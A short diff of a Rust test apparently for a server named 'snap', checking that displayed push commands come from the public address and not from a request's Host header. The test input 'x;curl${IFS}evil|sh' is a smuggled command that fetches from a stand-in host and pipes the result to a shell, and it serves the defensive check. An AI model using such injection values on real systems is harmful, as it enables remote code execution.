@@ -228,7 +228,7 @@ async fn commands_show_the_public_address_and_nothing_that_a_request_makes_up() 
     let serving = Serving::start(&place, open.clone());
     assert!(shown(&serving, "a.example:80").await.contains("snap push http://a.example:80 main"));
     let made_up = shown(&serving, "x;curl${IFS}evil|sh").await;
-    assert!(made_up.contains("snap push http://localhost main"), "{made_up}");
+    assert!(made_up.contains("`Host` is not a host") && !made_up.contains("curl"), "{made_up}");
     let public_url = Some("https://snap.example.org/".to_owned());
     let serving = Serving::start(&place, Settings { public_url, ..open });
     let told = shown(&serving, "a.example").await;
